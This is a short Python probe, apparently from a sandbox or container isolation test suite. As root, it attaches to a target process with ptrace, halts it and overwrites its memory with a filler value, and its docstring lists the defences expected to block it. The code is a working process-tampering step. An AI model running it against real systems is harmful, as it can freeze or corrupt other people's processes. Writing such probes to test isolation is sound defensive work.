# SPDX-License-Identifier: Apache-2.0
"""Attach to a host process and stop it there.

class: D3
effect: the victim does not answer any more
as: root
stopped-by-root: seccomp, pid-ns, landlock, user-ns, capabilities
"""
PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_POKEDATA = 0x4206, 0x4207, 5
print(sysc("ptrace", PTRACE_SEIZE, T["victim"], 0, 0))
print(sysc("ptrace", PTRACE_INTERRUPT, T["victim"], 0, 0))
time.sleep(0.1)
print(sysc("ptrace", PTRACE_POKEDATA, T["victim"], T["victim_address"], 0x4141414141414141))
